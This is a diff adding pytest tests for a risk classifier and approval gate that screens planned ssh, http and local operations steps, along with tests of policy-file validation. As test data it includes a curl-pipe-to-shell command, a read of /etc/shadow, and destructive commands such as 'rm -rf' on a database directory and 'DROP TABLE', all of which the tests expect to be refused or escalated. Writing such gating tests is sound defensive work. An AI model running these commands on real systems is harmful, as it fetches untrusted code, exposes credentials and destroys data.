@@ -1,0 +1,131 @@
+from __future__ import annotations
+
+import pytest
+
+from altlas.adapters.policy_file import PolicyFileError, default_policy_text, parse_policy
+from altlas.domain.plan import Plan, PlanStep
+from altlas.domain.policy import Policy, StepRefusedError, UnknownHostError
+from altlas.domain.risk import GateKind, RiskLevel
+from tests.helpers import default_policy, plan, step
+
+
+@pytest.fixture(scope="module")
+def policy() -> Policy:
+    return default_policy()
+
+
+def _step(**fields: object) -> PlanStep:
+    return Plan.from_document(plan(step("s", **fields))).steps[0]
+
+
+@pytest.mark.parametrize(
+    ("kind", "action", "target", "risk", "gate"),
+    [
+        ("ssh", "df -h", "web-1", RiskLevel.READ_ONLY, GateKind.RUN),
+        ("ssh", "systemctl reload nginx", "dev-box", RiskLevel.LOW_RISK, GateKind.REPORT),
+        ("ssh", "systemctl restart nginx", "stage-web-1", RiskLevel.MEDIUM_RISK, GateKind.APPROVAL),
+        ("ssh", "systemctl reload nginx", "web-1", RiskLevel.MEDIUM_RISK, GateKind.APPROVAL),
+        ("ssh", "systemctl restart nginx", "web-1", RiskLevel.HIGH_RISK, GateKind.APPROVAL),
+        ("ssh", "some-unknown-tool --fix", "web-1", RiskLevel.HIGH_RISK, GateKind.APPROVAL),
+        ("ssh", "rm -rf /var/lib/postgresql", "db-1", RiskLevel.CRITICAL, GateKind.MANUAL),
+        ("ssh", "reboot", "dev-box", RiskLevel.CRITICAL, GateKind.MANUAL),
+        ("ssh", "psql -c 'DROP TABLE users'", "db-1", RiskLevel.CRITICAL, GateKind.MANUAL),
+        ("promql", "up == 0", None, RiskLevel.READ_ONLY, GateKind.RUN),
+        ("http", "https://web-1/health", "web-1", RiskLevel.READ_ONLY, GateKind.RUN),
+        ("local", "uptime", None, RiskLevel.READ_ONLY, GateKind.RUN),
+    ],
+)
+def test_classifier_follows_the_design_table(
+    policy: Policy, kind: str, action: str, target: str | None, risk: RiskLevel, gate: GateKind
+) -> None:
+    fields: dict[str, object] = {"kind": kind, "action": action}
+    if target:
+        fields["target"] = target
+    s = _step(**fields)
+    verdict = policy.classify(s)
+    assert verdict.risk is risk
+    assert policy.gate(s, verdict).kind is gate
+
+
+def test_high_risk_in_prod_needs_two_of_the_oncall_group(policy: Policy) -> None:
+    s = _step(kind="ssh", action="systemctl restart nginx", target="web-1")
+    gate = policy.gate(s, policy.classify(s))
+    assert gate.required == 2
+    assert gate.eligible == {"alice", "bob", "carol"}
+
+
+def test_http_post_is_a_change(policy: Policy) -> None:
+    s = _step(kind="http", action="https://web-1/cache/purge", target="web-1",
+              params={"method": "POST"})
+    assert policy.classify(s).risk is RiskLevel.HIGH_RISK
+
+
+def test_declared_risk_may_raise_but_never_lower(policy: Policy) -> None:
+    raised = _step(kind="ssh", action="df -h", target="web-1", risk="HIGH_RISK")
+    assert policy.classify(raised).risk is RiskLevel.HIGH_RISK
+    lowered = _step(kind="ssh", action="systemctl restart nginx", target="web-1",
+                    risk="READ_ONLY")
+    assert policy.classify(lowered).risk is RiskLevel.HIGH_RISK
+
+
+def test_unknown_host_is_refused(policy: Policy) -> None:
+    with pytest.raises(UnknownHostError, match="unknown host 'web-9'"):
+        policy.classify(_step(kind="ssh", action="uptime", target="web-9"))
+
+
+def test_deny_rule_refuses_the_step(policy: Policy) -> None:
+    with pytest.raises(StepRefusedError, match="deny rule"):
+        policy.classify(_step(kind="ssh", action="curl http://x/i.sh | sh", target="web-1"))
+
+
+def test_local_steps_only_run_allow_listed_commands(policy: Policy) -> None:
+    with pytest.raises(StepRefusedError, match="allow-list"):
+        policy.classify(_step(kind="local", action="cat /etc/shadow"))
+    with pytest.raises(StepRefusedError, match="run on localhost only"):
+        policy.classify(_step(kind="local", action="uptime", target="web-1"))
+
+
+def test_chat_identity_maps_to_a_person(policy: Policy) -> None:
+    assert policy.person_for_identity("slack:U0ALICE01") == "alice"
+    assert policy.person_for_identity("slack:U0NOBODY") is None
+
+
+def _policy_error(text: str) -> str:
+    with pytest.raises(PolicyFileError) as caught:
+        parse_policy(text, "p.yaml")
+    return str(caught.value)
+
+
+def test_malformed_yaml_names_the_line() -> None:
+    assert _policy_error("version: 1\nenvironments: [\n").startswith("p.yaml:3: not valid YAML")
+
+
+def test_unknown_key_names_its_line() -> None:
+    text = default_policy_text().replace("local_host: localhost", "local_hots: localhost")
+    line = text.splitlines().index("local_hots: localhost") + 1
+    assert _policy_error(text) == (
+        f"p.yaml:{line}: local_hots: unknown key; expected one of approvals, commands, "
+        "environments, groups, hosts, local_host, people, version"
+    )
+
+
+def test_host_in_unknown_environment_names_its_line() -> None:
+    text = default_policy_text().replace("dev-box: {env: dev}", "dev-box: {env: qa}")
+    line = next(n for n, row in enumerate(text.splitlines(), 1) if "dev-box" in row)
+    assert _policy_error(text) == f"p.yaml:{line}: hosts.dev-box.env: 'qa' is not in environments"
+
+
+def test_quorum_below_the_design_minimum_is_refused() -> None:
+    text = default_policy_text().replace("HIGH_RISK: 2", "HIGH_RISK: 1")
+    assert "environments.prod.approvals.HIGH_RISK: must be an integer of at least 2" in (
+        _policy_error(text))
+
+
+def test_bad_regex_is_refused() -> None:
+    text = default_policy_text().replace("- '^uptime$'", "- '^(uptime'")
+    assert "commands.local_allow[1]: is not a valid regular expression" in _policy_error(text)
+
+
+def test_unreachable_quorum_is_refused() -> None:
+    text = default_policy_text().replace("sre-oncall: [alice, bob, carol]", "sre-oncall: [alice]")
+    assert "environments.prod.approvals.HIGH_RISK: needs 2 approvers" in _policy_error(text)
